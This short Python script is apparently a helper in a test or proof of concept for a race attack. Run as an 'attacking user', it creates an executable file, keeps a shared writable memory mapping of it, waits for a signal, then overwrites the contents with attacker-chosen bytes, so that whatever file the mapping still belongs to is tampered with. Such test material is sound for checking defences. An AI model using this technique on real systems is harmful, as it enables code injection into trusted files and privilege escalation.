# Run as the attacking user: makes PATH holding TEXT (mode 0755), maps it
# shared and writable, makes the file READY, waits until GO exists, then
# writes EVIL (as long as TEXT) through the mapping: into whatever file the
# mapping still belongs to.
#   hold_mapping.py PATH TEXT EVIL READY GO
import mmap
import os
import sys
import time

path, text, evil, ready, go = sys.argv[1:6]
assert len(text) == len(evil)
fd = os.open(path, os.O_RDWR | os.O_CREAT | os.O_EXCL, 0o755)
os.write(fd, text.encode())
os.fchmod(fd, 0o755)
mapping = mmap.mmap(fd, len(text))
open(ready, "w").close()
while not os.path.exists(go):
    time.sleep(0.02)
mapping[:] = evil.encode()
mapping.flush()
